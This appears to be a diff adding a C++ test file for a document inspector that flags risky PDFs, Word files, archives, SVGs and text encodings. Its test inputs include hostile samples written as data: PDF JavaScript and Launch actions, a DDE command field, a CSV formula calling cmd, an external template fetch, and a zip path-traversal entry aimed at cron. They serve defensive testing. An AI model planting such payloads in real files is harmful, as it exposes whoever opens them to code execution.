@@ -1,0 +1,180 @@
+// PDFs, office files, archives and drawings that the tests make themselves.
+#include <archive.h>
+#include <archive_entry.h>
+#include <fmt/format.h>
+#include <gmock/gmock.h>
+
+#include "inspect/test_inspector.h"
+#include "inspect/test_pictures.h"
+
+namespace stoa::inspect {
+namespace {
+
+using testing::HasSubstr;
+using testing::StartsWith;
+
+using Entries = std::vector<std::pair<std::string, std::string>>;
+
+std::string zip(const Entries& entries) {
+    std::string out(16 << 20, '\0');
+    std::size_t used = 0;
+    ::archive* writer = ::archive_write_new();
+    ::archive_write_set_format_zip(writer);
+    EXPECT_EQ(::archive_write_open_memory(writer, out.data(), out.size(), &used), ARCHIVE_OK);
+    for (const auto& [name, content] : entries) {
+        ::archive_entry* header = ::archive_entry_new();
+        ::archive_entry_set_pathname(header, name.c_str());
+        ::archive_entry_set_size(header, std::ssize(content));
+        ::archive_entry_set_filetype(header, AE_IFREG);
+        ::archive_write_header(writer, header);
+        ::archive_write_data(writer, content.data(), content.size());
+        ::archive_entry_free(header);
+    }
+    ::archive_write_close(writer);
+    ::archive_write_free(writer);
+    return out.substr(0, used);
+}
+
+// One page of 400 by 300 points; readers mend the table that is not there.
+std::string pdf(std::string_view text, std::string_view more_of_page = {}, std::string_view more_of_catalogue = {}) {
+    const std::string content = fmt::format("BT /F1 28 Tf 40 200 Td ({}) Tj ET", text);
+    return fmt::format(
+        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R {} >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
+        "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R {} /Resources << /Font << /F1 << /Type /Font "
+        "/Subtype /Type1 "
+        "/BaseFont /Helvetica >> >> >> >> endobj\n4 0 obj << /Length {} >> stream\n{}\nendstream endobj\ntrailer << /Root 1 0 R /Size 5 "
+        ">>\n%%EOF\n",
+        more_of_catalogue, more_of_page, content.size(), content);
+}
+
+std::string all_text(const Report& report, TextOrigin origin = TextOrigin::Written) {
+    std::string text;
+    for (const Passage& passage : report.passages) {
+        if (passage.origin == origin) text += passage.text + "\n";
+    }
+    return text;
+}
+
+TEST(Documents, PdfIsReadWithPlaces) {
+    const auto looked = test_inspector().look(
+        pdf("Invoice 4711",
+            "/Annots [<< /Type /Annot /Subtype /Link /Rect [40 190 200 230] /A << /S /URI /URI (https://shop.example/x) >> >>]"),
+        "invoice.pdf", "application/pdf");
+    const Report& report = looked.report;
+    EXPECT_FALSE(report.trouble) << report.trouble->detail;
+    EXPECT_TRUE(report.findings.empty());
+    EXPECT_EQ(report.pages, 1);
+    ASSERT_EQ(all_text(report), "Invoice 4711\n");
+    const Box box = report.passages.front().place.box.value_or(Box{});
+    EXPECT_NEAR(box.x, 40, 3);
+    EXPECT_NEAR(box.y, 75, 12);
+    ASSERT_EQ(report.links.size(), 1U);
+    EXPECT_EQ(report.links.front().target, "https://shop.example/x");
+    EXPECT_EQ(report.links.front().place.box, (Box{.x = 40, .y = 70, .width = 160, .height = 40}));
+    EXPECT_THAT(looked.preview, StartsWith("\xff\xd8\xff"));
+    EXPECT_EQ(report.preview->width, 1200);
+    EXPECT_EQ(report.thumbnail->width, 320);
+}
+
+// The font is not in the document; it is found in the sandbox, or there would be nothing to recognise.
+TEST(Documents, TextInPixelsIsRecognised) {
+    const InspectionOptions options{.recognition = InspectionOptions::Recognition::On};
+    const auto page = test_inspector().look(pdf("Leave us a review"), {}, {}, options);
+    EXPECT_FALSE(page.report.trouble) << page.report.trouble->detail;
+    EXPECT_THAT(all_text(page.report, TextOrigin::Recognised), HasSubstr("review"));
+    const auto picture = test_inspector().look(page.preview, {}, {}, options);
+    EXPECT_THAT(all_text(picture.report, TextOrigin::Recognised), HasSubstr("review"));
+    ASSERT_FALSE(picture.report.passages.empty());
+    EXPECT_NEAR(picture.report.passages.front().place.box.value_or(Box{}).x, 120, 12);
+}
+
+TEST(Documents, WhatPdfsDoIsFound) {
+    const auto concern = [](const std::string& bytes) {
+        const Report report = test_inspector().look(bytes).report;
+        return report.findings.empty() ? std::string() : std::string(id_of(report.findings.front().concern));
+    };
+    EXPECT_EQ(concern(pdf("x", {}, "/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>")), "javascript");
+    EXPECT_EQ(concern(pdf("x", {}, "/OpenAction << /S /Launch /F (calc.exe) >>")), "launch_action");
+    EXPECT_EQ(concern(pdf("x", {}, "/AcroForm << /XFA (x) >>")), "automatic_action");
+    EXPECT_EQ(concern(pdf("x", "/AA << /O << /S /SubmitForm /F (http://x.example) >> >>")), "submits_form");
+    EXPECT_EQ(concern(pdf("x", {}, "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")), "");
+    EXPECT_EQ(concern("%PDF-1.4\nnothing more"), "damaged");
+}
+
+std::string docx(std::string_view body, std::string_view relationships = {}, Entries more = {}) {
+    Entries entries{{"[Content_Types].xml", "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"},
+                    {"word/_rels/document.xml.rels", fmt::format("<Relationships>{}</Relationships>", relationships)},
+                    {"word/document.xml", fmt::format("<w:document xmlns:w='w' xmlns:r='r'><w:body>{}</w:body></w:document>", body)}};
+    for (auto& entry : more) entries.push_back(std::move(entry));
+    return zip(entries);
+}
+
+TEST(Documents, OfficeFilesAreRead) {
+    const auto clean = test_inspector().look(
+        docx("<w:p><w:r><w:t>Dear </w:t></w:r><w:r><w:t>customer</w:t></w:r></w:p><w:p><w:r><w:t>Bye</w:t></w:r></w:p>",
+             "<Relationship Type='x/hyperlink' Target='https://shop.example' TargetMode='External'/>"),
+        "letter.docx");
+    EXPECT_EQ(clean.report.kind, FileKind::Docx);
+    EXPECT_TRUE(clean.report.findings.empty());
+    EXPECT_EQ(all_text(clean.report), "Dear customer\nBye\n");
+    ASSERT_EQ(clean.report.links.size(), 1U);
+
+    const auto has = [](const std::string& bytes, Concern concern) { return test_inspector().look(bytes).report.has(concern); };
+    EXPECT_TRUE(has(docx("<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x cmd</w:instrText></w:r></w:p>"),
+                    Concern::DynamicExchange));
+    EXPECT_TRUE(has(docx("", "<Relationship Type='x/attachedTemplate' Target='http://x.example/a.dotm' TargetMode='External'/>"),
+                    Concern::ExternalLink));
+    EXPECT_TRUE(has(docx("", {}, {{"word/vbaProject.bin", "x"}}), Concern::Macro));
+    EXPECT_TRUE(has(docx("", {}, {{"word/embeddings/oleObject1.bin", "x"}}), Concern::EmbeddedObject));
+    EXPECT_TRUE(has(zip({{"META-INF/MANIFEST.MF", "x"}, {"A.class", "x"}}), Concern::Program));
+    EXPECT_TRUE(has(R"({\rtf1 {\object\objemb{\*\objdata 0105}}})", Concern::EmbeddedObject));
+    EXPECT_TRUE(has("name,price\ncup,=cmd|'/C calc'!A0\n", Concern::DynamicExchange));
+}
+
+TEST(Documents, ArchivesAreRefusedOrOpened) {
+    const InspectionOptions open{.archives = InspectionOptions::Containers::Open};
+    const std::string good = zip({{"photos/cup.jpg", turned_jpeg_with_position()}, {"note.txt", "The cup is broken"}});
+    EXPECT_TRUE(test_inspector().look(good).report.has(Concern::Archive));
+    const auto opened = test_inspector().look(good, "photos.zip", "application/zip", open);
+    EXPECT_TRUE(opened.report.findings.empty()) << opened.report.findings.front().detail;
+    EXPECT_THAT(opened.rebuilt, StartsWith("PK"));
+    EXPECT_THAT(opened.rebuilt, testing::Not(HasSubstr("Somebody")));
+    EXPECT_EQ(all_text(opened.report), "The cup is broken\n");
+
+    const auto has = [&](const std::string& bytes, Concern concern, InspectionOptions options) {
+        const auto looked = test_inspector().look(bytes, {}, {}, options);
+        return looked.report.has(concern) && !looked.report.rebuilt;
+    };
+    EXPECT_TRUE(has(zip({{"../../etc/cron.d/x", "x"}}), Concern::ArchiveEscapes, open));
+    EXPECT_TRUE(has(zip({{"run.sh", "#!/bin/sh\n"}}), Concern::Script, open));
+    EXPECT_TRUE(has(zip({{"zeros.bin", std::string(12 << 20, '\0')}}), Concern::TooLarge, open));
+    EXPECT_TRUE(has(zip({{"a.zip", zip({{"b.zip", zip({{"c.zip", zip({{"d.txt", "x"}})}})}})}}), Concern::ArchiveTooDeep, open));
+    InspectionOptions few = open;
+    few.archive_entries = 3;
+    EXPECT_TRUE(has(zip({{"1.txt", "x"}, {"2.txt", "x"}, {"3.txt", "x"}, {"4.txt", "x"}}), Concern::ArchiveTooMany, few));
+}
+
+TEST(Documents, DrawingsAreRefusedOrDrawn) {
+    const std::string drawing =
+        "<svg xmlns='http://www.w3.org/2000/svg' width='200' height='100'><rect width='50' height='50' fill='red'/></svg>";
+    EXPECT_TRUE(test_inspector().look(drawing).report.has(Concern::Markup));
+    const auto drawn = test_inspector().look(drawing, "logo.svg", "image/svg+xml", {.drawings = InspectionOptions::Containers::Open});
+    EXPECT_TRUE(drawn.report.findings.empty());
+    EXPECT_THAT(drawn.rebuilt, StartsWith("\x89PNG"));
+    EXPECT_EQ(drawn.report.picture->width, 200);
+}
+
+TEST(Documents, TextsAreReadInTheirCharset) {
+    const auto utf = test_inspector().look("Gr\u00fc\u00dfe\nzweite Zeile", "a.txt", "text/plain");
+    EXPECT_EQ(utf.report.charset, "UTF-8");
+    EXPECT_EQ(all_text(utf.report), "Gr\u00fc\u00dfe\nzweite Zeile\n");
+    const auto latin = test_inspector().look(
+        "Mit freundlichen Gr\xfc\xdf"
+        "en aus M\xfcnchen, sch\xf6ne Feiertage w\xfcnscht das Team",
+        "a.txt");
+    EXPECT_THAT(all_text(latin.report), HasSubstr("Gr\u00fc\u00df"));
+    EXPECT_THAT(latin.report.findings, testing::IsEmpty());
+}
+
+}  // namespace
+}  // namespace stoa::inspect
